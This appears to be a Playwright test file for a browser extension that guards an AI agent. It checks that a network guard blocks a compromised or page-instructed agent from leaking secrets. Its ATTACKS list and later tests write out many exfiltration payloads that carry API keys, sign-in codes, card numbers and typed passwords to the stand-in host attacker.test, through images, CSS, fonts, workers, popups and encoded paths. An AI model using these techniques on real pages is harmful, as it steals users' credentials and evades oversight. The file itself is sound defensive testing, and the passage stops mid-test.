import { expect, test, type Page } from '@playwright/test';
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
import type { TaskPolicyInput } from '../src/core/policy';
import { buildSessionRules, DEPENDENCY_HOST_PATTERNS, EXFIL_PATTERNS, LONG_DEPENDENCY_URL, MAX_NAMED_PORTS } from '../src/background/floor/dnr';
import { parsePolicy } from '../src/core/policy';
import { spacedRegexesOf } from '../src/taint/rules';
import { buildExtension, type ExtensionVariant } from './fixtures/extension';
import { startTestServer, type TestServer } from './fixtures/server';

/**
 * Issue 11, the network floor: a page on a site the task names shows a secret; page JavaScript (what
 * `page.evaluate` gives a compromised agent) tries to carry it to attacker.test through every
 * subresource and context a page can create. Judged by the test server's own log, three ways:
 * with the extension, with the MAIN-world hooks removed (`nohooks`: the floor must hold alone), and
 * without the extension (negative control: every attempt reaches the server). A benign page loading
 * ordinary dependencies from cdn.test must load fully while guarded.
 */

const HOME = 'allowed.test';
/** A secure-context host (service workers need one): `*.localhost` is potentially trustworthy. */
const SECURE_HOME = 'allowed.localhost';
const ATTACKER = 'attacker.test';
const CDN = 'cdn.test';
const QUIET_MS = 1_500;

/** "Read allowed.test": a read-only task, as in the issue's attack run (a private host is named with its port). */
const readOnly = (): TaskPolicyInput => ({
  version: 1,
  taskId: 'floor-exfil',
  issuedAt: 0,
  expiresAt: null,
  allow: { tools: [], capabilities: [], classes: ['READ'] },
  domains: [HOME, `${SECURE_HOME}:${server.port}`],
});

interface Secret {
  /** An API key shaped secret (shown on the page). */
  key: string;
  /** A one-time code (shown on the page). */
  code: string;
}

interface Ctx {
  page: Page;
  server: TestServer;
  /** http://attacker.test:PORT */
  attacker: string;
  /** A path prefix unique to this case. */
  id: string;
  secret: Secret;
}

const b64url = (s: string) => Buffer.from(s).toString('base64url');
const hex = (s: string) => Buffer.from(s).toString('hex');
const cutEvery = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join('-');

const insert = (c: Ctx, html: string) => c.page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);

interface Attack {
  name: string;
  /** Host the probe goes to (a subdomain of attacker.test for the host-name case). */
  host?(c: Ctx): string;
  /** Page host (service workers need a secure context). */
  home?: string;
  run(c: Ctx): Promise<unknown>;
}

const img = (c: Ctx, path: string) => insert(c, `<img src="${c.attacker}${path}">`);

export const ATTACKS: Attack[] = [
  { name: 'img, secret raw in the path', run: (c) => img(c, `/${c.id}/${c.secret.key}.png`) },
  { name: 'img, secret cut every 30 characters', run: (c) => img(c, `/${c.id}/${cutEvery(c.secret.key, 30)}.png`) },
  { name: 'img, secret in base64url', run: (c) => img(c, `/${c.id}/${b64url(`k=${c.secret.key}`)}.png`) },
  { name: 'img, secret in hex', run: (c) => img(c, `/${c.id}/${hex(c.secret.key)}.png`) },
  { name: 'img, one-time code in the path', run: (c) => img(c, `/${c.id}/c${c.secret.code}.png`) },
  { name: 'img, secret in hex as many image-size parameters', run: (c) => img(c, `/${c.id}/p.png?${hex(c.secret.key).match(/.{1,8}/g)!.map((x) => `w=${x}`).join('&')}`) },
  { name: 'stylesheet, secret in hex as a long font family', run: (c) => insert(c, `<link rel="stylesheet" href="${c.attacker}/${c.id}/s.css?family=${hex(c.secret.key).match(/.{1,8}/g)!.join(',')}">`) },
  { name: 'img srcset', run: (c) => insert(c, `<img srcset="${c.attacker}/${c.id}/${c.secret.key}.png 2x">`) },
  { name: 'input type=image', run: (c) => insert(c, `<input type="image" src="${c.attacker}/${c.id}/${c.secret.key}.png">`) },
  { name: 'SVG image', run: (c) => insert(c, `<svg><image href="${c.attacker}/${c.id}/${c.secret.key}.png" width="1" height="1"/></svg>`) },
  { name: 'CSS background-image', run: (c) => insert(c, `<div style="width:5px;height:5px;background-image:url(${c.attacker}/${c.id}/${c.secret.key}.png)"></div>`) },
  { name: 'link rel=preload as=image', run: (c) => insert(c, `<link rel="preload" as="image" href="${c.attacker}/${c.id}/${c.secret.key}.png">`) },
  { name: 'video poster', run: (c) => insert(c, `<video poster="${c.attacker}/${c.id}/${c.secret.key}.png"></video>`) },
  { name: 'audio src', run: (c) => insert(c, `<audio src="${c.attacker}/${c.id}/${c.secret.key}.mp3" preload="auto"></audio>`) },
  { name: 'object data', run: (c) => insert(c, `<object data="${c.attacker}/${c.id}/x.html"></object>`) },
  { name: 'embed src', run: (c) => insert(c, `<embed src="${c.attacker}/${c.id}/x.html">`) },
  { name: 'script src', run: (c) => insert(c, `<script src="${c.attacker}/${c.id}/${c.secret.key}.js"></script>`).then(() => c.page.evaluate((u) => document.body.append(Object.assign(document.createElement('script'), { src: u })), `${c.attacker}/${c.id}/${c.secret.key}.js`)) },
  { name: 'import()', run: (c) => c.page.evaluate((u) => import(/* @vite-ignore */ u).catch(() => 'failed'), `${c.attacker}/${c.id}/${c.secret.key}.mjs`) },
  { name: 'link rel=modulepreload', run: (c) => insert(c, `<link rel="modulepreload" href="${c.attacker}/${c.id}/${c.secret.key}.mjs">`) },
  { name: 'importScripts in a Worker', run: (c) => c.page.evaluate((u) => void new Worker(URL.createObjectURL(new Blob([`try { importScripts(${JSON.stringify(u)}) } catch {}`], { type: 'text/javascript' }))), `${c.attacker}/${c.id}/${c.secret.key}.js`) },
  { name: 'link rel=stylesheet', run: (c) => insert(c, `<link rel="stylesheet" href="${c.attacker}/${c.id}/${c.secret.key}.css">`) },
  { name: 'CSS @import', run: (c) => insert(c, `<style>@import url("${c.attacker}/${c.id}/${c.secret.key}.css");</style>`) },
  { name: 'CSS @font-face', run: (c) => insert(c, `<style>@font-face { font-family: leak; src: url("${c.attacker}/${c.id}/${c.secret.key}.woff2"); } .leak { font-family: leak; }</style><p class="leak">text</p>`) },
  { name: 'secret in a subdomain label', host: (c) => `${c.secret.key.replace(/[^a-z0-9]/g, '').slice(0, 40)}.${ATTACKER}`, run: (c) => img(c, `/${c.id}/p.png`) },
  {
    name: 'img through a same-site redirect',
    run: (c) => insert(c, `<img src="${c.server.origin(HOME)}/redirect?to=${encodeURIComponent(`${c.attacker}/${c.id}/${c.secret.key}.png`)}">`),
  },
  {
    name: 'SharedWorker fetch',
    run: (c) =>
      c.page.evaluate((u) => {
        const src = `fetch(${JSON.stringify(u)}).catch(() => {});`;
        new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
      }, `${c.attacker}/${c.id}/${c.secret.code}`),
  },
  {
    name: 'ServiceWorker fetch',
    home: SECURE_HOME,
    run: async (c) => {
      c.server.setPage(`/sw-${c.id}.js`, { body: `fetch(${JSON.stringify(`${c.attacker}/${c.id}/${c.secret.code}`)}).catch(() => {});`, contentType: 'text/javascript' });
      return c.page.evaluate((u) => navigator.serviceWorker.register(u).then(() => 'registered', (e: unknown) => String(e)), `/sw-${c.id}.js`);
    },
  },
];

// The tests are independent (each describe block launches its browser in every worker that runs one of
// its tests; every worker has its own server): both workers share this long file instead of one
// running it alone at the end of the suite.
test.describe.configure({ mode: 'parallel' });

let server: TestServer;
let caseNumber = 0;
test.beforeAll(async () => {
  server = await startTestServer();
});
test.afterAll(async () => server.close());

function launch(variant: ExtensionVariant | null): Promise<AgentBrowser> {
  if (variant === null) return launchAgentBrowser({ extension: false });
  return launchAgentBrowser({ extensionPath: buildExtension(variant) });
}

const sleep = (ms: number) => new Promise<void>((done) => setTimeout(done, ms));

function newSecret(): Secret {
  return { key: `sk_live_${randomBytes(16).toString('hex')}`, code: String(100000 + (randomBytes(3).readUIntBE(0, 3) % 900000)) };
}

/** A fresh secret, shown at `/show/<id>` on every host of the test server. */
function showSecret(id: string): Secret {
  const secret = newSecret();
  server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Your API key: <code>${secret.key}</code></p><p>Sign-in code: ${secret.code}</p>`);
  return secret;
}

/**
 * Waits until the floor holds the secret shown on the page: the collector reported it and the worker's
 * rebuilt rules carry it (an agent reads a page before it acts; this is that moment).
 */
async function taintRecorded(browser: AgentBrowser, secret: Secret): Promise<void> {
  if (browser.extensionId === null) return;
  const deadline = Date.now() + 15_000;
  const keyPiece = secret.key.slice(8, 20);
  while (Date.now() < deadline) {
    const filters = new Set((await browser.floorRules()).map((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter));
    if (filters.has(secret.code) && filters.has(keyPiece)) return;
    await sleep(100);
  }
  throw new Error('the network floor never received the secret shown on the page');
}

/** Waits until the floor's taint holds `urlFilter` (what the page showed or the agent typed); at once without the extension. */
async function floorHolds(browser: AgentBrowser, urlFilter: string, what: string): Promise<void> {
  if (browser.extensionId === null) return;
  for (const deadline = Date.now() + 15_000; Date.now() < deadline; await sleep(100)) {
    if ((await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === urlFilter)) return;
  }
  throw new Error(`the floor never received ${what}`);
}

/**
 * The watch after an attack: a guarded case is watched for `ms` (what has not arrived by then was stopped);
 * without the extension the case ends as soon as `arrived()` holds, within the same window (the control
 * only has to show the attack works).
 */
async function watch(browser: AgentBrowser, arrived: () => boolean, ms = QUIET_MS): Promise<void> {
  if (browser.extensionId !== null) return sleep(ms);
  for (const until = Date.now() + ms; Date.now() < until && !arrived(); ) await sleep(50);
}

/** Runs one attack in a fresh page showing a fresh secret; true when the attacker's server saw it. */
async function runAttack(browser: AgentBrowser, attack: Attack): Promise<boolean> {
  const id = `x${++caseNumber}`;
  const secret = showSecret(id);
  const home = attack.home ?? HOME;
  const page = await browser.context.newPage();
  try {
    await page.goto(`${server.origin(home)}/show/${id}`);
    await taintRecorded(browser, secret);
    const c: Ctx = { page, server, attacker: server.origin(ATTACKER), id, secret };
    const host = attack.host?.(c) ?? ATTACKER;
    c.attacker = `http://${host}:${server.port}`;
    const arrived = server.waitFor(`/${id}/`, host, 2 * QUIET_MS).then(() => true, () => false);
    await Promise.race([attack.run(c).catch(() => undefined), sleep(QUIET_MS)]);
    // Without the extension the case ends as soon as the probe arrives, within the same window a
    // guarded case is watched for (QUIET_MS after the attack ran). `return await`: the page, closed in
    // `finally`, stays open until then.
    if (browser.extensionId === null) return await Promise.race([arrived, sleep(QUIET_MS).then(() => false)]);
    await sleep(QUIET_MS);
    return server.hits(`/${id}/`, host).length > 0;
  } finally {
    await Promise.race([page.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
  }
}

async function runAll(browser: AgentBrowser): Promise<Map<string, boolean>> {
  const results = new Map<string, boolean>();
  const queue = [...ATTACKS];
  const lane = async () => {
    for (let a = queue.shift(); a !== undefined; a = queue.shift()) results.set(a.name, await runAttack(browser, a));
  };
  // Six at a time: a case is mostly its quiet period, and every case has its own path and secret.
  await Promise.all(Array.from({ length: 6 }, lane));
  console.log(`floor-exfil (${browser.extensionId === null ? 'no extension' : 'extension'}): reached attacker.test: ${[...results].filter(([, r]) => r).map(([n]) => n).join('; ') || 'none'}`);
  return results;
}

/** A page on the named site that loads ordinary dependencies from cdn.test. */
async function loadBenignPage(browser: AgentBrowser): Promise<string[]> {
  const id = `benign${++caseNumber}`;
  const cdn = server.origin(CDN);
  server.setPage(`/${id}/site.css`, { body: `@font-face { font-family: inter; src: url("${cdn}/${id}/fonts/inter-v12-latin.woff2"); } body { font-family: inter; }`, contentType: 'text/css' });
  server.setPage(`/${id}/lib.js`, { body: 'window.libLoaded = true;', contentType: 'text/javascript' });
  server.setPage(
    `/page/${id}`,
    `<!doctype html><link rel="stylesheet" href="${cdn}/${id}/site.css?v=3"><script src="${cdn}/${id}/lib.js?v=1.4.2"></script>
     <p>Hello</p><img src="${cdn}/${id}/img/photo-1523275335684-37898b6baf30.jpg?w=200&fit=crop"><img src="${cdn}/${id}/img/logo.png">`,
  );
  const page = await browser.context.newPage();
  try {
    await page.goto(`${server.origin(HOME)}/page/${id}`);
    await page.waitForFunction(() => (window as unknown as { libLoaded?: boolean }).libLoaded === true, null, { timeout: 5_000 }).catch(() => undefined);
    await sleep(QUIET_MS);
    return server.hits(`/${id}/`, CDN).map((r) => `${r.path}${r.query}`).sort();
  } finally {
    await page.close();
  }
}

const BENIGN_LOADS = (id: string) => [`/${id}/fonts/inter-v12-latin.woff2`, `/${id}/img/logo.png`, `/${id}/img/photo-1523275335684-37898b6baf30.jpg?w=200&fit=crop`, `/${id}/lib.js?v=1.4.2`, `/${id}/site.css?v=3`];

for (const variant of ['full', 'nohooks'] as const) {
  test.describe(`floor exfiltration, ${variant} build`, () => {
    // One group per build: its tests share the browser its beforeAll launches, and the groups spread over the
    // workers. (A parallel file with hooks is otherwise cut into one run of tests per worker, in file order.)
    test.describe.configure({ mode: 'default' });
    let browser: AgentBrowser;
    test.beforeAll(async () => {
      test.setTimeout(90_000);
      browser = await launch(variant);
      await browser.setPolicy(readOnly());
    });
    test.afterAll(async () => browser?.close());

    test('every attack carrying the page\'s secret to attacker.test is stopped', async () => {
      test.setTimeout(180_000);
      const results = await runAll(browser);
      for (const attack of ATTACKS) {
        await test.step(attack.name, () => expect.soft(results.get(attack.name), `${attack.name} reached attacker.test`).toBe(false));
      }
    });

    test('a page loading ordinary dependencies from cdn.test loads them all', async () => {
      const id = `benign${caseNumber + 1}`;
      expect(await loadBenignPage(browser)).toEqual(BENIGN_LOADS(id));
    });
  });
}

/**
 * The taint's rules are dynamic rules, which cannot name tabs: session allow rules keep them off every
 * request outside the guard's scope (src/background/floor/dnr.ts, buildTaintRules). With guard scope
 * `task-tabs`, a tab the task did not start in sends what it likes; the task's tab cannot send the secret
 * it showed. No MAIN-world hooks, so the floor alone decides both.
 */
test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () => {
  test('the task tab cannot carry the shown secret to attacker.test; a tab outside the task can', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setOptions({ guardScope: 'task-tabs' });
      const id = `scope${++caseNumber}`;
      const secret = showSecret(id);
      server.setPage(`/other/${id}`, `<!doctype html><title>other</title><p>Another tab</p>`);
      const taskTab = await browser.context.newPage();
      await taskTab.goto(`${server.origin(HOME)}/show/${id}`);
      await taskTab.bringToFront();
      await browser.setPolicy(readOnly()); // the task starts in the active tab
      await taskTab.reload();
      await taintRecorded(browser, secret);
      // An image: a dependency from an unnamed site in the ordinary shape, which only the taint refuses.
      const send = (page: Page, path: string) => page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}${path}`);

      // A tab opened during a task is guarded until the worker places it outside: its first navigation
      // may be refused, and the worker then sends it again once (docs/limits.md#7-guard-scope-task-tabs).
      const otherTab = await browser.context.newPage();
      const otherUrl = `${server.origin('other.test')}/other/${id}`;
      await otherTab.goto(otherUrl).catch(() => undefined);
      await otherTab.waitForURL(otherUrl, { timeout: 10_000 });
      await send(otherTab, `/${id}/other/${secret.code}.png`);
      await server.waitFor(`/${id}/other/`, ATTACKER, 2 * QUIET_MS);

      await send(taskTab, `/${id}/task/${secret.code}.png`);
      await sleep(QUIET_MS);
      expect(server.hits(`/${id}/task/`, ATTACKER), 'the task tab reached attacker.test').toHaveLength(0);
    } finally {
      await browser.close();
    }
  });
});

/**
 * A task page can navigate a tab outside the task when it holds a reference to it (its opener, here). The
 * taint's rules hold for top-level navigations in every tab (the out-of-scope allows leave main_frame
 * out), so that tab cannot carry the code the task's page showed; the same navigation without the code
 * arrives (the navigation floor guards the task's tabs only).
 */
test.describe('a task page navigating its opener, guard scope task-tabs, no MAIN-world hooks', () => {
  test('the opener, outside the task, cannot be made to carry the shown code; without the code it goes', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setOptions({ guardScope: 'task-tabs' });
      const id = `opener${++caseNumber}`;
      const secret = showSecret(id);
      server.setPage(`/other/${id}`, `<!doctype html><title>other</title><p>The user's tab</p>`);
      const outsideTab = await browser.context.newPage();
      await outsideTab.goto(`${server.origin('other.test')}/other/${id}`);
      const [taskTab] = await Promise.all([browser.context.waitForEvent('page'), outsideTab.evaluate((u) => void window.open(u), `${server.origin(HOME)}/show/${id}`)]);
      await taskTab.waitForLoadState();
      await taskTab.bringToFront();
      await browser.setPolicy(readOnly()); // the task starts in the active tab; its opener is outside it
      await taskTab.reload();
      await taintRecorded(browser, secret);
      const navigateOpener = (path: string) => taskTab.evaluate((u) => void ((window.opener as Window).location.href = u), `${server.origin(ATTACKER)}/${id}${path}`);
      await navigateOpener('/plain');
      await server.waitFor(`/${id}/plain`, ATTACKER, 2 * QUIET_MS);
      await navigateOpener(`/code/${secret.code}`);
      await sleep(QUIET_MS);
      expect(server.hits(`/${id}/code/`, ATTACKER), 'the opener carried the shown code to attacker.test').toHaveLength(0);
    } finally {
      await browser.close();
    }
  });
});

/**
 * Guard scope `task-tabs` guards every tab but those known to be outside the task, so a tab a task page
 * opens is guarded from its first request: before, the popup joined the task only once the worker had
 * heard of it, and its first navigation could leave first (up to 8 of 10 `noopener` popups without the
 * MAIN-world hooks, and 1–2 of 10 `target=_blank` links with them, reached attacker.test). The same
 * popups from a tab that was open before the task arrive: only the scope stops the others.
 */
test.describe('popups of the task tab with guard scope task-tabs, no MAIN-world hooks', () => {
  test('no popup of the task tab reaches attacker.test, however it is opened; the same popups of a tab outside the task arrive', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setOptions({ guardScope: 'task-tabs' });
      const id = `popups${++caseNumber}`;
      server.setPage(`/page/${id}`, `<!doctype html><title>${id}</title><p>A page</p>`);
      const outsideTab = await browser.context.newPage();
      await outsideTab.goto(`${server.origin('other.test')}/page/${id}`);
      const taskTab = await browser.context.newPage();
      await taskTab.goto(`${server.origin(HOME)}/page/${id}`);
      await taskTab.bringToFront();
      await browser.setPolicy(readOnly()); // the task starts in the active tab; the other tab is outside it
      const openPopups = (page: Page, from: string) =>
        page.evaluate(
          ({ base, count }) => {
            for (let i = 0; i < count; i++) {
              window.open(`${base}/open/${i}`);
              window.open(`${base}/noopener/${i}`, '_blank', 'noopener');
              const link = Object.assign(document.createElement('a'), { href: `${base}/link/${i}`, target: '_blank', rel: 'noreferrer' });
              document.body.append(link);
              link.click();
            }
          },
          { base: `${server.origin(ATTACKER)}/${id}/${from}`, count: 5 },
        );
      await openPopups(outsideTab, 'outside');
      await openPopups(taskTab, 'task');
      for (const kind of ['open', 'noopener', 'link']) await server.waitFor(`/${id}/outside/${kind}/`, ATTACKER, 4 * QUIET_MS);
      await sleep(QUIET_MS);
      expect(server.hits(`/${id}/task/`, ATTACKER).map((r) => r.path), 'popups of the task tab reached attacker.test').toEqual([]);
    } finally {
      await browser.close();
    }
  });
});

/**
 * Reading open to every site (`domains: null`), guard scope all-tabs: a worker of a site the task does not
 * name (tab −1, initiator reader.test) is inside the guard's worker scope, so the taint's unscoped dynamic
 * rules apply to it and no out-of-scope allow lifts them. The same worker's request without the secret
 * arrives: only the taint stops the other.
 */
test.describe('the taint on a worker of an unnamed site, reading open, no MAIN-world hooks', () => {
  test('a SharedWorker of the page cannot carry the shown code to attacker.test; its request without the code arrives', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-open-reading', domains: null });
      const id = `openread${++caseNumber}`;
      const secret = showSecret(id);
      const page = await browser.context.newPage();
      await page.goto(`${server.origin('reader.test')}/show/${id}`);
      await taintRecorded(browser, secret);
      await page.evaluate((urls) => {
        const src = urls.map((u) => `fetch(${JSON.stringify(u)}).catch(() => {});`).join('\n');
        new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
      }, [`${server.origin(ATTACKER)}/${id}/plain/hello`, `${server.origin(ATTACKER)}/${id}/secret/${secret.code}`]);
      await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
      await sleep(QUIET_MS);
      expect(server.hits(`/${id}/secret/`, ATTACKER), 'the worker carried the shown code to attacker.test').toHaveLength(0);
    } finally {
      await browser.close();
    }
  });
});

/**
 * Values shown with spaces or an `@` (a card number in groups, an IBAN, an e-mail address) travel in a URL
 * percent-encoded — a browser writes a space in a path as %20 by itself — and the floor must know them in
 * that form too (until 2026-12-01 it did not: its pieces were the short groups). Also from an about:blank
 * frame's document.write, which the MAIN-world hooks do not see.
 */
test.describe('shown values with spaces or an @, percent-encoded in a URL', () => {
  const VALUES = { card: '4111 1111 1111 1111', iban: 'DE89 3704 0044 0532 0130 00', email: 'john.doe@gmail.com' };
  /** Which values reached attacker.test; `plain` waits for a request without them first (the hooks of the full build hold that one for the user). */
  const leak = async (browser: AgentBrowser, id: string, plain: boolean): Promise<string[]> => {
    server.setPage(`/show/${id}`, `<!doctype html><p>Card: ${VALUES.card}</p><p>IBAN: ${VALUES.iban}</p><p>Contact: ${VALUES.email}</p>`);
    const page = await browser.context.newPage();
    await page.goto(`${server.origin(HOME)}/show/${id}`);
    await floorHolds(browser, '4111111111111111', 'the shown values');
    const attacker = server.origin(ATTACKER);
    await page.evaluate(
      ({ attacker, id, values }) => {
        document.body.insertAdjacentHTML('beforeend', `<img src="${attacker}/${id}/card/${values.card}.png"><img src="${attacker}/${id}/iban/${values.iban}.png"><img src="${attacker}/${id}/email/${encodeURIComponent(values.email)}.png">`);
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.contentDocument!.write(`<img src="${attacker}/${id}/frame/${values.card}.png">`);
        document.body.insertAdjacentHTML('beforeend', `<img src="${attacker}/${id}/plain/hello.png">`);
      },
      { attacker, id, values: VALUES },
    );
    if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
    const arrived = () => ['card', 'iban', 'email', 'frame'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
    await watch(browser, () => arrived().length === 4);
    await page.close();
    return arrived();
  };

  for (const variant of ['nohooks', 'full'] as const) {
    test(`${variant} build: none of them reaches attacker.test${variant === 'nohooks' ? '; a request without them does' : ''}`, async () => {
      test.setTimeout(90_000);
      const browser = await launch(variant);
      try {
        await browser.setPolicy(readOnly());
        expect(await leak(browser, `spaced-${variant}-${++caseNumber}`, variant === 'nohooks')).toEqual([]);
      } finally {
        await browser.close();
      }
    });
  }

  test('negative control: without the extension every one arrives', async () => {
    const browser = await launch(null);
    try {
      expect(await leak(browser, `spaced-control-${++caseNumber}`, true)).toEqual(['card', 'iban', 'email', 'frame']);
    } finally {
      await browser.close();
    }
  });
});

/**
 * A password and a one-time code the agent typed into a page of a site the task does not name (reading
 * open): that page must not send them to its own site in a URL. What a site showed may go back to it; what
 * the agent typed into a secret field is exactly what that site must not receive.
 */
test.describe('a secret typed into an unnamed site, reading open', () => {
  const PASSWORD = 'Tr0ub4dor-3x';
  const CODE = '428913';
  const typeAndLeak = async (browser: AgentBrowser, id: string, plain: boolean): Promise<string[]> => {
    server.setPage(`/login/${id}`, '<!doctype html><form><input type="password" name="pw"><input name="otp" autocomplete="one-time-code"></form>');
    const page = await browser.context.newPage();
    await page.goto(`${server.origin(ATTACKER)}/login/${id}`);
    await page.fill('input[name=pw]', PASSWORD);
    await page.fill('input[name=otp]', CODE);
    await floorHolds(browser, 'Tr0ub4dor', 'the typed password');
    await page.evaluate(
      ({ id, pw, code }) => {
        void fetch(`/${id}/fetch/x?p=${pw}&o=${code}`).catch(() => undefined);
        new Image().src = `/${id}/img/${pw}/${code}.png`;
        new Image().src = `/${id}/plain/hello.png`;
      },
      { id, pw: PASSWORD, code: CODE },
    );
    if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
    const arrived = () => ['fetch', 'img'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
    await watch(browser, () => arrived().length === 2);
    await page.close();
    return arrived();
  };

  for (const variant of ['nohooks', 'full'] as const) {
    test(`${variant} build: the page cannot send them to its own site; a request without them goes`, async () => {
      test.setTimeout(90_000);
      const browser = await launch(variant);
      try {
        await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-typed', domains: null });
        expect(await typeAndLeak(browser, `typed-${variant}-${++caseNumber}`, true)).toEqual([]);
      } finally {
        await browser.close();
      }
    });
  }

  test('negative control: without the extension both arrive', async () => {
    const browser = await launch(null);
    try {
      expect(await typeAndLeak(browser, `typed-control-${++caseNumber}`, true)).toEqual(['fetch', 'img']);
    } finally {
      await browser.close();
    }
  });
});

/**
 * A task that asks before each write: the hooks hold a page's POST for the person, and the floor must
 * refuse the POST the hooks never see (a worker's) — until 2026-12-01 the listed site was a write site at
 * the floor as soon as the policy listed any approval.
 */
test.describe('a task that asks before each write, no MAIN-world hooks', () => {
  /** The worker's POSTs that arrived: watched for 2 × QUIET_MS when none may, until the one arrives when it may. */
  const workerPost = async (browser: AgentBrowser, id: string, allowed: boolean): Promise<number> => {
    server.setPage(`/app/${id}`, '<!doctype html><p>app</p>');
    const page = await browser.context.newPage();
    await page.goto(`${server.origin(HOME)}/app/${id}`);
    await page.evaluate((u) => {
      const src = `fetch(${JSON.stringify(u)}, { method: 'POST', body: 'note=unasked' }).catch(() => {});`;
      new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    }, `${server.origin(HOME)}/${id}/post`);
    await (allowed ? server.waitFor(`/${id}/post`, HOME, 2 * QUIET_MS).catch(() => undefined) : sleep(2 * QUIET_MS));
    await page.close();
    return server.hits(`/${id}/post`, HOME).length;
  };

  test('a worker cannot write to the listed site without an approval; with writes allowed outright it can', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-asks', requireApproval: { tools: [], capabilities: [], classes: ['EXTERNAL_WRITE'] } });
      expect(await workerPost(browser, `asks${++caseNumber}`, false), 'the unasked worker POST arrived').toBe(0);
      await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-writes', ceilings: { EXTERNAL_WRITE: 'allow' }, allow: { tools: [], capabilities: [], classes: ['READ', 'EXTERNAL_WRITE'] } });
      expect(await workerPost(browser, `writes${++caseNumber}`, true), 'the control POST').toBe(1);
    } finally {
      await browser.close();
    }
  });
});

/**
 * A page that forges typing into its own password field, hundreds of times, must not push what the task's
 * pages showed out of the taint (the collector took every input event as typed; the flood evicted all).
 */
test.describe('the taint under a flood of forged typing, no MAIN-world hooks', () => {
  const floodThenLeak = async (browser: AgentBrowser, id: string): Promise<number> => {
    const secret = showSecret(id);
    const page = await browser.context.newPage();
    await page.goto(`${server.origin(HOME)}/show/${id}`);
    await taintRecorded(browser, secret);
    await page.evaluate(() => {
      const field = document.body.appendChild(Object.assign(document.createElement('input'), { type: 'password' }));
      for (let i = 0; i < 420; i++) {
        field.value = `junk${i}x${Math.random().toString(36).slice(2, 10)}`;
        field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
      }
    });
    // The collector's time to take the flood in (without the extension nothing takes it in).
    if (browser.extensionId !== null) await sleep(2 * QUIET_MS);
    await page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}/${id}/after/c${secret.code}.png`);
    await watch(browser, () => server.hits(`/${id}/after/`, ATTACKER).length > 0);
    await page.close();
    return server.hits(`/${id}/after/`, ATTACKER).length;
  };

  test('the shown code still cannot reach attacker.test after the flood', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setPolicy(readOnly());
      expect(await floodThenLeak(browser, `flood${++caseNumber}`)).toBe(0);
    } finally {
      await browser.close();
    }
  });

  test('negative control: without the extension the code arrives', async () => {
    const browser = await launch(null);
    try {
      expect(await floodThenLeak(browser, `flood-control${++caseNumber}`)).toBe(1);
    } finally {
      await browser.close();
    }
  });
});

test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
  test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
    test.setTimeout(90_000);
    const browser = await launch('nohooks');
    try {
      await browser.setPolicy(readOnly());
      const id = `restart${++caseNumber}`;
      const secret = showSecret(id);
      const page = await browser.context.newPage();
      await page.goto(`${server.origin(HOME)}/show/${id}`);
      await taintRecorded(browser, secret);
      await browser.restartWorker();
      // The woken worker reconciles the rules it finds with the stored task: the taint is still there.
      await taintRecorded(browser, secret);
      await page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}/${id}/${secret.code}.png`);
      await sleep(QUIET_MS);
      expect(server.hits(`/${id}/`, ATTACKER), 'the shown code reached attacker.test after the restart').toHaveLength(0);
    } finally {
      await browser.close();
    }
  });
});

/**
 * A user who lets the agent read another site for the rest of the task ("Allow for this task" on a
 * scripted read) gives it a site to read, not a place to carry what the task's pages showed. The agent,
 * told by a page to open attacker.test with the sign-in code in the address, navigates: only the floor
 * can stop a navigation before it is sent, and a grant's allow rule must not lift the taint's.
 */
test.describe('a read grant for an unnamed site and the taint', () => {
  const grantThenLeak = async (browser: AgentBrowser, id: string): Promise<{ granted: number; leaked: number }> => {
    const secret = showSecret(id);
    server.setPage(`/${id}/news`, `<!doctype html><title>news</title><p>news</p>`);
    const page = await browser.context.newPage();
    await page.goto(`${server.origin(HOME)}/show/${id}`);
    await taintRecorded(browser, secret);
    const read = page.evaluate((u) => fetch(u).then((r) => r.status, (e: unknown) => String(e)), `${server.origin(ATTACKER)}/${id}/news`);
    if (browser.extensionId !== null) {
      const [ask] = await browser.waitForApprovals(1);
      await browser.answer(ask!.id, 'task');
    }
    await read;
    const granted = server.hits(`/${id}/news`, ATTACKER).length;
    await page.goto(`${server.origin(ATTACKER)}/${id}/leak?c=${secret.code}`).catch(() => undefined);
    await watch(browser, () => server.hits(`/${id}/leak`, ATTACKER).length > 0);
    return { granted, leaked: server.hits(`/${id}/leak`, ATTACKER).length };
  };

